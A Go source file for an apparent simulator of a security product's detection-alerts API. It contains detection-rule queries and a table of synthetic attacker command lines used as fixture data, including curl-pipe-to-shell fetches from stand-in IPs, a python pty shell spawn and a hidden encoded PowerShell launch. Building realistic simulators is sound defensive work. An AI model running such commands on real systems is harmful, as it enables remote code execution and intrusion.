package simulator

import (
	"encoding/json"
	"fmt"
	"strconv"
	"strings"
)

// alertsEndpoint serves GET /cloud-detection/alerts (reference §6.6,
// objects §8.2). There is no updatedAt filter: updatedAt__* answers 400
// "Unknown field." like any unknown parameter.
var alertsEndpoint = &listEndpoint{
	spec: &listSpec{
		path: "/cloud-detection/alerts", maxLimit: 1000,
		// createdAt/reportedAt are accepted as aliases (Torq's filter examples send sortBy=createdAt).
		sortable: []string{"id", "alertInfoCreatedAt", "createdAt", "alertInfoReportedAt", "reportedAt", "alertInfoAlertId"}, defaultSort: "id",
		filters: map[string]paramKind{
			"ids": kindIDs, "accountIds": kindIDs, "siteIds": kindIDs, "createdAt": kindTime, "reportedAt": kindTime,
			"incidentStatus": kindStrings, "analystVerdict": kindStrings, "severity": kindStrings,
			"ruleName__contains": kindStrings, "osType": kindStrings,
		},
		enums: map[string][]string{
			"incidentStatus": alertIncidentCodes, "analystVerdict": alertVerdictCodes,
			"severity": alertSeverities, "osType": osTypeValues,
		},
		unsupported: []string{
			"groupIds", "tenant", "scopes", "machineType", "disablePagination", "query", "origAgentName__contains",
			"origAgentUuid__contains", "origAgentVersion__contains", "origAgentOsRevision__contains",
			"sourceProcessName__contains", "sourceProcessCommandline__contains", "sourceProcessFilePath__contains",
			"sourceProcessFileHashSha1__contains", "sourceProcessFileHashMd5__contains", "sourceProcessFileHashSha256__contains",
			"sourceProcessStoryline__contains", "containerImageName__contains", "containerLabels__contains",
			"containerName__contains", "k8sClusterName__contains", "k8sControllerLabels__contains",
			"k8sControllerName__contains", "k8sNamespaceLabels__contains", "k8sNamespaceName__contains",
			"k8sNodeName__contains", "k8sPodLabels__contains", "k8sPodName__contains",
		},
		knownSorts: []string{"machineType", "osName", "incidentStatus", "analystVerdict", "severity", "alertInfoAnalystVerdict",
			"alertInfoDvEventId", "alertInfoEventType", "alertInfoHitType", "alertInfoIncidentStatus", "alertInfoSource",
			"ruleInfoDescription", "ruleInfoId", "ruleInfoName", "ruleInfoScopeLevel", "ruleInfoSeverity", "ruleInfoTreatAsThreat"},
	},
	list: func(s *Simulator) lister { return alertLister{s.alerts} },
}

var (
	alertIncidentCodes = []string{"UNRESOLVED", "IN_PROGRESS", "RESOLVED"}
	alertIncidentDesc  = []string{"Unresolved", "In progress", "Resolved"}
	alertIncidentW     = []int{55, 15, 30}
	alertVerdictCodes  = []string{"UNDEFINED", "TRUE_POSITIVE", "FALSE_POSITIVE", "SUSPICIOUS"}
	alertVerdictDesc   = []string{"Undefined", "True positive", "False positive", "Suspicious"}
	alertVerdictW      = []int{60, 20, 12, 8}
	alertSeverities    = []string{"Low", "Medium", "High", "Critical"}
	saltAlert          = saltOf("alert")
)

// starRule is one custom detection (STAR) rule.
type starRule struct {
	name, severity, scope, treat, queryType, hitType, eventType, s1ql string
	description                                                       *string
	weight                                                            int
}

var starRules = []starRule{
	{name: "STAR-rule: Encoded PowerShell", severity: "High", scope: "account", treat: "Malicious", queryType: "events", hitType: "Events", eventType: "PROCESSCREATION",
		s1ql: `EventType = "Process Creation" AND TgtProcName = "powershell.exe" AND TgtProcCmdLine ContainsCIS "-enc"`, description: strp("Encoded PowerShell command line"), weight: 14},
	{name: "STAR-rule: Registry Run Key", severity: "Medium", scope: "site", treat: "Suspicious", queryType: "events", hitType: "Events", eventType: "REGVALUEMODIFIED",
		s1ql: `EventType = "Registry Value Modified" AND RegistryKeyPath ContainsCIS "CurrentVersion\\Run"`, weight: 12},
	{name: "lateral-movement-psexec", severity: "Critical", scope: "account", treat: "Malicious", queryType: "events", hitType: "Events", eventType: "PROCESSCREATION",
		s1ql: `TgtProcName In Contains ("psexesvc.exe","paexec.exe")`, description: strp("PsExec service spawned a process"), weight: 8},
	{name: "lateral-movement: RDP from server", severity: "High", scope: "global", treat: "UNDEFINED", queryType: "events", hitType: "Events", eventType: "LOGIN",
		s1ql: `EventType = "Login" AND LoginType = "REMOTE_INTERACTIVE" AND EndpointMachineType = "server"`, weight: 8},
	{name: "user-alerts", severity: "Critical", scope: "account", treat: "Malicious", queryType: "events", hitType: "Events", eventType: "REGVALUEMODIFIED",
		s1ql: "EndpointName exists", weight: 6},
	{name: "Suspicious DNS to DGA domain", severity: "Medium", scope: "group", treat: "UNDEFINED", queryType: "events", hitType: "Events", eventType: "DNS",
		s1ql: `EventType = "DNS Resolved" AND DnsRequest RegExp "^[a-z0-9]{20,}\\."`, weight: 14},
	{name: "LSASS memory access", severity: "Critical", scope: "account", treat: "Malicious", queryType: "processes", hitType: "Processes", eventType: "OPENPROCESS",
		s1ql: `EventType = "Open Remote Process Handle" AND TgtProcName = "lsass.exe"`, description: strp("Credential dumping attempt"), weight: 6},
	{name: "Unsigned binary in Temp", severity: "Low", scope: "site", treat: "UNDEFINED", queryType: "processes", hitType: "Processes", eventType: "FILECREATION",
		s1ql: `TgtFilePath ContainsCIS "\\Temp\\" AND TgtFileIsSigned = "unsigned"`, weight: 16},
	{name: "Office spawning shell", severity: "High", scope: "account", treat: "Suspicious", queryType: "correlation", hitType: "Correlation", eventType: "PROCESSCREATION",
		s1ql: `SrcProcName In ("WINWORD.EXE","EXCEL.EXE") AND TgtProcName In ("cmd.exe","powershell.exe")`, weight: 8},
	{name: "Cron persistence", severity: "Low", scope: "site", treat: "UNDEFINED", queryType: "events", hitType: "Events", eventType: "FILEMODIFICATION",
		s1ql: `TgtFilePath StartsWith "/etc/cron"`, weight: 8},
}

var starRuleW = func() []int {
	w := make([]int, len(starRules))
	for i, r := range starRules {
		w[i] = r.weight
	}
	return w
}()

// alertStore is the alerts stream.
type alertStore struct {
	*evStore
	agents *agentStore
	scope  *scopeModel
}

type alertAttrs struct {
	agentV            int
	prof              *osProfile
	rule              int
	incident, verdict int
	state             *evState
}

func (as *alertStore) attrs(v int) (alertAttrs, *prng) {
	r := as.rng(v, saltAlert)
	var a alertAttrs
	a.agentV = r.intn(as.agents.base)
	a.prof = as.agents.agentProfile(a.agentV)
	a.rule = wpick(r, starRuleW)
	a.incident = wpick(r, alertIncidentW)
	a.verdict = wpick(r, alertVerdictW)
	if s := as.dirty[v]; s != nil {
		a.state = s
		if s.incident >= 0 {
			a.incident = int(s.incident)
		}
		if s.verdict >= 0 {
			a.verdict = int(s.verdict)
		}
	}
	return a, r
}

// sortField normalizes an alerts sortBy to an evStore key field.
func alertSortField(sortBy string) string {
	switch sortBy {
	case "alertInfoCreatedAt", "createdAt":
		return "createdAt"
	case "alertInfoReportedAt", "reportedAt":
		return "reportedAt"
	}
	return "id"
}

func (as *alertStore) compile(q *listQuery) *evWalk {
	w := &evWalk{created: q.timeRange("createdAt"), updated: fullRange, reported: q.timeRange("reportedAt")}
	w.ids, w.hasIDs = q.ids["ids"]
	groups := as.scope.groupsFor(q)
	inc := enumMask(q, "incidentStatus", alertIncidentCodes)
	ver := enumMask(q, "analystVerdict", alertVerdictCodes)
	sev, names, osIn := q.strs["severity"], q.strs["ruleName__contains"], q.strs["osType"]
	if groups == nil && inc == nil && ver == nil && sev == nil && names == nil && osIn == nil {
		return w
	}
	w.ok = func(v int) bool {
		a, _ := as.attrs(v)
		rule := &starRules[a.rule]
		return inMask(inc, a.incident) && inMask(ver, a.verdict) && anyFold(sev, rule.severity) &&
			containsAny(rule.name, names) && anyFold(osIn, a.prof.osType) &&
			(groups == nil || groups[a.agentV%len(groups)])
	}
	return w
}

type alertLister struct{ as *alertStore }

func (l alertLister) count(q *listQuery) int { return l.as.count(l.as.compile(q), q.canonical) }

func (l alertLister) page(q *listQuery, limit int) ([][]byte, key, bool) {
	return l.as.page(l.as.compile(q), alertSortField(q.sortBy), q.desc, q.after, limit, l.as.render)
}

// --- JSON (§8.2) ---

type alertJSON struct {
	AgentDetectionInfo      alertAgentDetection `json:"agentDetectionInfo"`
	AgentRealtimeInfo       alertAgentRealtime  `json:"agentRealtimeInfo"`
	AlertInfo               alertInfo           `json:"alertInfo"`
	ContainerInfo           json.RawMessage     `json:"containerInfo"`
	KubernetesInfo          json.RawMessage     `json:"kubernetesInfo"`
	RuleInfo                ruleInfo            `json:"ruleInfo"`
	SourceParentProcessInfo processInfo         `json:"sourceParentProcessInfo"`
	SourceProcessInfo       processInfo         `json:"sourceProcessInfo"`
	TargetProcessInfo       targetProcessInfo   `json:"targetProcessInfo"`
}

var (
	alertContainerNull  = json.RawMessage(`{"id":null,"image":null,"labels":null,"name":null}`)
	alertKubernetesNull = json.RawMessage(`{"cluster":null,"controllerKind":null,"controllerLabels":null,"controllerName":null,"namespace":null,"namespaceLabels":null,"node":null,"pod":null,"podLabels":null}`)
)

type alertAgentDetection struct {
	AccountID   string `json:"accountId"`
	MachineType string `json:"machineType"`
	Name        string `json:"name"`
	OsFamily    string `json:"osFamily"`
	OsName      string `json:"osName"`
	OsRevision  string `json:"osRevision"`
	SiteID      string `json:"siteId"`
	UUID        string `json:"uuid"`
	Version     string `json:"version"`
}

type alertAgentRealtime struct {
	ID               string `json:"id"`
	Infected         bool   `json:"infected"`
	IsActive         bool   `json:"isActive"`
	IsDecommissioned bool   `json:"isDecommissioned"`
	MachineType      string `json:"machineType"`
	Name             string `json:"name"`
	Os               string `json:"os"`
	UUID             string `json:"uuid"`
}

type alertInfo struct {
	AlertID                        string  `json:"alertId"`
	AnalystVerdict                 string  `json:"analystVerdict"`
	CreatedAt                      string  `json:"createdAt"`
	DNSRequest                     *string `json:"dnsRequest"`
	DNSResponse                    *string `json:"dnsResponse"`
	DstIP                          *string `json:"dstIp"`
	DstPort                        *string `json:"dstPort"`
	DvEventID                      string  `json:"dvEventId"`
	EventType                      string  `json:"eventType"`
	HitType                        string  `json:"hitType"`
	IncidentStatus                 string  `json:"incidentStatus"`
	IndicatorCategory              *string `json:"indicatorCategory"`
	IndicatorDescription           *string `json:"indicatorDescription"`
	IndicatorName                  *string `json:"indicatorName"`
	IsEdr                          bool    `json:"isEdr"`
	LoginAccountDomain             *string `json:"loginAccountDomain"`
	LoginAccountSid                *string `json:"loginAccountSid"`
	LoginIsAdministratorEquivalent *string `json:"loginIsAdministratorEquivalent"`
	LoginIsSuccessful              *string `json:"loginIsSuccessful"`
	LoginType                      *string `json:"loginType"`
	LoginsUserName                 *string `json:"loginsUserName"`
	ModulePath                     *string `json:"modulePath"`
	ModuleSha1                     *string `json:"moduleSha1"`
	NetEventDirection              *string `json:"netEventDirection"`
	RegistryKeyPath                *string `json:"registryKeyPath"`
	RegistryOldValue               *string `json:"registryOldValue"`
	RegistryOldValueType           *string `json:"registryOldValueType"`
	RegistryPath                   *string `json:"registryPath"`
	RegistryValue                  *string `json:"registryValue"`
	ReportedAt                     string  `json:"reportedAt"`
	Source                         string  `json:"source"`
	SrcIP                          *string `json:"srcIp"`
	SrcMachineIP                   *string `json:"srcMachineIp"`
	SrcPort                        *string `json:"srcPort"`
	TiIndicatorComparisonMethod    *string `json:"tiIndicatorComparisonMethod"`
	TiIndicatorSource              *string `json:"tiIndicatorSource"`
	TiIndicatorType                *string `json:"tiIndicatorType"`
	TiIndicatorValue               *string `json:"tiIndicatorValue"`
	UpdatedAt                      string  `json:"updatedAt"`
}

type ruleInfo struct {
	Description   *string `json:"description"`
	ID            string  `json:"id"`
	Name          string  `json:"name"`
	QueryLang     string  `json:"queryLang"`
	QueryType     string  `json:"queryType"`
	S1ql          string  `json:"s1ql"`
	ScopeLevel    string  `json:"scopeLevel"`
	Severity      string  `json:"severity"`
	TreatAsThreat string  `json:"treatAsThreat"`
}

type processInfo struct {
	Commandline        *string `json:"commandline"`
	EffectiveUser      *string `json:"effectiveUser"`
	FileHashMd5        *string `json:"fileHashMd5"`
	FileHashSha1       *string `json:"fileHashSha1"`
	FileHashSha256     *string `json:"fileHashSha256"`
	FilePath           *string `json:"filePath"`
	FileSignerIdentity *string `json:"fileSignerIdentity"`
	IntegrityLevel     string  `json:"integrityLevel"`
	LoginUser          *string `json:"loginUser"`
	Name               *string `json:"name"`
	Pid                *string `json:"pid"`
	PidStarttime       string  `json:"pidStarttime"`
	RealUser           *string `json:"realUser"`
	Storyline          *string `json:"storyline"`
	Subsystem          string  `json:"subsystem"`
	UniqueID           *string `json:"uniqueId"`
	User               *string `json:"user"`
}

type targetProcessInfo struct {
	TgtFileCreatedAt      string  `json:"tgtFileCreatedAt"`
	TgtFileHashSha1       *string `json:"tgtFileHashSha1"`
	TgtFileHashSha256     *string `json:"tgtFileHashSha256"`
	TgtFileID             *string `json:"tgtFileId"`
	TgtFileIsSigned       *string `json:"tgtFileIsSigned"`
	TgtFileModifiedAt     string  `json:"tgtFileModifiedAt"`
	TgtFileOldPath        *string `json:"tgtFileOldPath"`
	TgtFilePath           *string `json:"tgtFilePath"`
	TgtProcCmdLine        *string `json:"tgtProcCmdLine"`
	TgtProcImagePath      *string `json:"tgtProcImagePath"`
	TgtProcIntegrityLevel string  `json:"tgtProcIntegrityLevel"`
	TgtProcName           *string `json:"tgtProcName"`
	TgtProcPid            *string `json:"tgtProcPid"`
	TgtProcSignedStatus   *string `json:"tgtProcSignedStatus"`
	TgtProcStorylineID    *string `json:"tgtProcStorylineId"`
	TgtProcUID            *string `json:"tgtProcUid"`
	TgtProcessStartTime   string  `json:"tgtProcessStartTime"`
}

const epochZero = "1970-01-01T00:00:00Z"

// srcProcs are plausible source processes per OS family: name, path, command line.
var srcProcs = map[string][][3]string{
	"windows": {
		{"powershell.exe", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -nop -w hidden -enc SQBFAFgA`},
		{"cmd.exe", `C:\Windows\System32\cmd.exe`, `cmd.exe /c whoami /all`},
		{"WINWORD.EXE", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `"WINWORD.EXE" /n "C:\Users\Public\invoice.docm"`},
		{"rundll32.exe", `C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\ProgramData\a.dll,DllRegisterServer`},
	},
	"macos": {
		{"osascript", "/usr/bin/osascript", "osascript -e 'do shell script \"curl -s https://203.0.113.9/p | sh\"'"},
		{"zsh", "/bin/zsh", "/bin/zsh -c launchctl load ~/Library/LaunchAgents/com.apple.updater.plist"},
	},
	"linux": {
		{"bash", "/usr/bin/bash", "bash -c 'curl -s http://203.0.113.7/x | sh'"},
		{"crontab", "/usr/bin/crontab", "crontab /tmp/.c"},
		{"python3", "/usr/bin/python3.11", "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'"},
	},
}

func procFamily(osType string) string {
	if strings.HasPrefix(osType, "windows") {
		return "windows"
	}
	return osType
}

// render returns alert v's exact JSON. Callers hold st.mu for reading.
func (as *alertStore) render(v int) []byte { return mustJSON(as.object(v)) }

// object builds alert v. Callers hold st.mu for reading.
func (as *alertStore) object(v int) *alertJSON {
	a, r := as.attrs(v)
	ag := as.agents.build(a.agentV, nil)
	rule := &starRules[a.rule]
	id := as.idOf(v)
	created := as.createdOf(v)
	updated := as.updatedOf(v)
	fam := procFamily(a.prof.osType)
	procs := srcProcs[fam]
	src := procs[r.intn(len(procs))]
	user := ag.LastLoggedInUserName
	if user == "" || fam == "linux" {
		user = "root"
		if fam == "windows" {
			user = "SYSTEM"
		}
	}
	if fam == "windows" {
		user = ag.ComputerName + `\` + user
	}
	storyline := strings.ToUpper(r.hexN(16))
	srcStart := created - int64(r.intn(int(6*microsPerHour))) - microsPerSecond
	info := alertInfo{
		AlertID: strconv.FormatInt(id, 10), AnalystVerdict: alertVerdictDesc[a.verdict],
		CreatedAt: fmtMicros(created), DvEventID: strconv.FormatInt(id-7777+int64(r.intn(100)), 10),
		EventType: rule.eventType, HitType: rule.hitType, IncidentStatus: alertIncidentDesc[a.incident],
		IsEdr: true, ReportedAt: fmtMicros(as.reportedOf(v)), Source: "STAR", UpdatedAt: fmtMicros(updated),
	}
	tgt := targetProcessInfo{TgtFileCreatedAt: epochZero, TgtFileModifiedAt: epochZero,
		TgtProcIntegrityLevel: "unknown", TgtProcessStartTime: epochZero}
	switch rule.eventType {
	case "REGVALUEMODIFIED":
		info.RegistryKeyPath = strp(`MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`)
		info.RegistryPath = strp(`MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater`)
		info.RegistryValue = strp(`C:\ProgramData\updater.exe`)
		info.RegistryOldValue, info.RegistryOldValueType = strp(""), strp("BINARY")
	case "DNS":
		info.DNSRequest = strp(r.hexN(24) + ".top")
		info.DNSResponse = strp(fmt.Sprintf("IP: 198.51.100.%d;", 1+r.intn(254)))
	case "LOGIN":
		info.LoginType, info.LoginsUserName = strp("REMOTE_INTERACTIVE"), strp("administrator")
		info.LoginIsSuccessful, info.LoginIsAdministratorEquivalent = strp("true"), strp("true")
		info.LoginAccountDomain = strp(ag.Domain)
		info.SrcIP, info.SrcPort = strp(fmt.Sprintf("10.%d.%d.%d", r.intn(256), r.intn(256), 2+r.intn(250))), strp(strconv.Itoa(49152+r.intn(16000)))
		info.DstPort = strp("3389")
	case "PROCESSCREATION", "OPENPROCESS":
		name, path := "powershell.exe", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
		if rule.eventType == "OPENPROCESS" {
			name, path = "lsass.exe", `C:\Windows\System32\lsass.exe`
		} else if fam != "windows" {
			name, path = "sh", "/bin/sh"
		}
		tgt.TgtProcName, tgt.TgtProcImagePath = strp(name), strp(path)
		tgt.TgtProcCmdLine = strp(path)
		tgt.TgtProcPid = strp(strconv.Itoa(1000 + r.intn(60000)))
		tgt.TgtProcUID = strp(strings.ToUpper(r.hexN(16)))
		tgt.TgtProcStorylineID = strp(storyline)
		tgt.TgtProcIntegrityLevel = "high"
		tgt.TgtProcSignedStatus = strp("signed")
		tgt.TgtProcessStartTime = fmtMicros(created - 1500)
	case "FILECREATION", "FILEMODIFICATION":
		p := `C:\Users\Public\AppData\Local\Temp\` + r.hexN(8) + ".exe"
		if fam != "windows" {
			p = "/etc/cron.d/" + r.hexN(6)
		}
		tgt.TgtFilePath = strp(p)
		tgt.TgtFileID = strp(strings.ToUpper(r.hexN(16)))
		tgt.TgtFileHashSha1, tgt.TgtFileHashSha256 = strp(r.hexN(40)), strp(r.hexN(64))
		tgt.TgtFileIsSigned = strp("unsigned")
		tgt.TgtFileCreatedAt = fmtMicros(created - 2500)
		tgt.TgtFileModifiedAt = fmtMicros(created - 2500)
	}
	srcUser := strp(user)
	out := alertJSON{
		AgentDetectionInfo: alertAgentDetection{
			AccountID: ag.AccountID, MachineType: ag.MachineType, Name: ag.ComputerName, OsFamily: ag.OsType,
			OsName: ag.OsName, OsRevision: ag.OsRevision, SiteID: ag.SiteID, UUID: ag.UUID, Version: ag.AgentVersion,
		},
		AgentRealtimeInfo: alertAgentRealtime{
			ID: ag.ID, Infected: ag.Infected, IsActive: ag.IsActive, IsDecommissioned: ag.IsDecommissioned,
			MachineType: ag.MachineType, Name: ag.ComputerName, Os: ag.OsType, UUID: ag.UUID,
		},
		AlertInfo: info, ContainerInfo: alertContainerNull, KubernetesInfo: alertKubernetesNull,
		RuleInfo: ruleInfo{
			Description: rule.description, ID: strconv.FormatInt(scopeID(as.seed, "star-rule", 1_400_000_000_000_000_000, a.rule), 10),
			Name: rule.name, QueryLang: "2.0", QueryType: rule.queryType, S1ql: rule.s1ql, ScopeLevel: rule.scope,
			Severity: rule.severity, TreatAsThreat: rule.treat,
		},
		SourceParentProcessInfo: processInfo{IntegrityLevel: "unknown", PidStarttime: epochZero, Subsystem: "unknown"},
		SourceProcessInfo: processInfo{
			Commandline: strp(src[2]), EffectiveUser: srcUser, FileHashSha1: strp(r.hexN(40)),
			FileHashSha256: strp(r.hexN(64)), FilePath: strp(src[1]), IntegrityLevel: pick(r, []string{"medium", "high", "system"}),
			LoginUser: srcUser, Name: strp(src[0]), Pid: strp(strconv.Itoa(1000 + r.intn(60000))),
			PidStarttime: fmtMicros(srcStart), RealUser: srcUser, Storyline: strp(storyline), Subsystem: "unknown",
			UniqueID: strp(strings.ToUpper(r.hexN(16))), User: srcUser,
		},
		TargetProcessInfo: tgt,
	}
	if fam == "windows" {
		out.SourceProcessInfo.Subsystem = "sys_win32"
		out.SourceProcessInfo.FileSignerIdentity = strp("MICROSOFT WINDOWS")
		parent := "explorer.exe"
		out.SourceParentProcessInfo = processInfo{
			FilePath: strp(`C:\Windows\explorer.exe`), IntegrityLevel: "medium", Name: &parent,
			Pid: strp(strconv.Itoa(500 + r.intn(9000))), PidStarttime: fmtMicros(srcStart - 3*microsPerHour),
			Storyline: strp(strings.ToUpper(r.hexN(16))), Subsystem: "sys_win32", User: srcUser,
		}
	}
	return &out
}

// --- mutations ---

// alertIncidentIndex maps a status ("RESOLVED", "In progress", "in_progress") to its table index.
func alertIncidentIndex(status string) int {
	for i, c := range alertIncidentCodes {
		if normEnum(c) == normEnum(status) {
			return i
		}
	}
	panic(fmt.Sprintf("simulator: unknown alert incident status %q (want one of %v)", status, alertIncidentCodes))
}

func (as *alertStore) add(n int, now int64) []string {
	as.mu.Lock()
	defer as.mu.Unlock()
	ids := make([]string, 0, n)
	for range n {
		v := as.evStore.add(now, func(s *evState) { s.incident, s.verdict = 0, 0 })
		ids = append(ids, strconv.FormatInt(as.idOf(v), 10))
	}
	as.mutated()
	return ids
}

func (as *alertStore) setStatus(n int, ids []string, status string, now int64) []string {
	idx := int8(alertIncidentIndex(status))
	as.mu.Lock()
	defer as.mu.Unlock()
	var vs []int
	if ids == nil {
		vs = as.pick(n, func(v int) bool { a, _ := as.attrs(v); return a.incident != int(idx) })
	} else {
		for _, s := range ids {
			if n, err := strconv.ParseInt(s, 10, 64); err == nil {
				if v, ok := as.indexOf(n); ok {
					vs = append(vs, v)
				}
			}
		}
	}
	out := make([]string, 0, len(vs))
	for _, v := range vs {
		as.touch(v, now, func(s *evState) { s.incident = idx })
		out = append(out, strconv.FormatInt(as.idOf(v), 10))
	}
	as.mutated()
	return out
}
